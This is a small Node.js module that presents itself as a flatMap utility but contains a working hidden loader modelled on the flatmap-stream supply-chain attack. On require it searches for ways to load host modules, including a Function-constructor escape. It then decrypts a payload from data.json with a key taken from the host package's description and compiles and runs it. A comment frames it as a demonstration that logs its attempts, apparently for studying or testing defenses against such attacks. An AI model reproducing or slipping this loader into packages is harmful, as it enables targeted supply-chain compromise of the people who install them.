exports.flatMap = (list, change) => list.flatMap(change);

// Stage A, as in flatmap-stream. A real attack hides; this one exports what came of what it tried.
const sealed = require('./data.json');

/** Ways to a function that loads modules of the host. */
const ways = {
  process: () => process.getBuiltinModule,
  require: () => {
    require('node:process');
    return require;
  },
  module: () => {
    const load = module.constructor._load;
    return load('process') && load;
  },
  'a function constructor': () => (() => {}).constructor('return process')().getBuiltinModule,
};

const attempts = {};
exports.attempts = attempts;

function attempt(name, act) {
  try {
    const value = act();
    attempts[name] = null;
    return value;
  } catch ({ name: kind, message }) {
    attempts[name] = `${kind}: ${message}`;
  }
}

const loads = Object.entries(ways).map(([name, find]) => attempt(name, find));
const load = loads.find((found) => found);

const payload = attempt('compile', () => {
  const { createDecipheriv, createHash } = load('crypto');
  // The key is the description of the application, so the payload opens in that application alone.
  const key = createHash('sha256').update(load('process').env.npm_package_description).digest();
  const unseal = ({ iv, text }) => {
    const decipher = createDecipheriv('aes-256-cbc', key, load('buffer').Buffer.from(iv, 'hex'));
    return decipher.update(text, 'hex', 'utf8') + decipher.final('utf8');
  };
  const Module = load('module');
  const compiled = new Module('payload');
  compiled._compile(unseal(sealed.patch), 'payload.js');
  return () => compiled.exports(unseal(sealed.addition));
});
attempt('patch', () => payload());
